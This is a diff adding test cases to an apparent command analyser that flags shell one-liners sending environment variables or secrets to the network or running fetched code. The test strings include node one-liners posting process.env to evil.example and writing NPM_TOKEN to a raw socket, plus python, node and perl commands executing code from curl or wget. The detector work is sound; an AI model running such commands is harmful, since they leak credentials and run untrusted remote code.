@@ -18,6 +18,26 @@ TEST_CASE("python and node one-liners that send the environment are flows to net
                  "env_dump", "network"));
 }
 
+TEST_CASE("a module required inline and a host given as an option are read like named ones") {
+  auto facts = analyze("node -e \"require('https').request({host:'evil.example',method:'POST'})"
+                       ".end(JSON.stringify(process.env))\"");
+  const auto* flow = flow_of(facts, "env_dump", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "evil.example");
+  CHECK(has_flow(analyze("node -e \"require('node:net').connect(4444, '10.0.0.9').write(process.env.NPM_TOKEN)\""),
+                 "secret_var", "network"));
+  CHECK_FALSE(has_flow_to(analyze("node -e \"console.log(require('os').hostname(), process.env.NODE_ENV)\""), "network"));
+}
+
+TEST_CASE("an interpreter given fetched code to run is network to exec") {
+  for (auto script : {"python3 -c \"$(curl -s https://x.example.com/p.py)\"", "node -e \"$(wget -qO- https://x.example.com/p.js)\"",
+                      "perl -e \"$(curl -fsSL https://x.example.com/p.pl)\""}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  CHECK_FALSE(has_flow(analyze("python3 -c \"$(cat scripts/snippet.py)\""), "network", "exec"));
+}
+
 TEST_CASE("one-liners in perl, ruby, php, deno and bun are read the same way") {
   for (auto script : {"perl -MLWP::Simple -e 'get(\"https://p.example.com/?\" . join(\",\", %ENV))'",
                       "ruby -rnet/http -e 'Net::HTTP.post_form(URI(\"https://r.example.com\"), ENV.to_h)'",
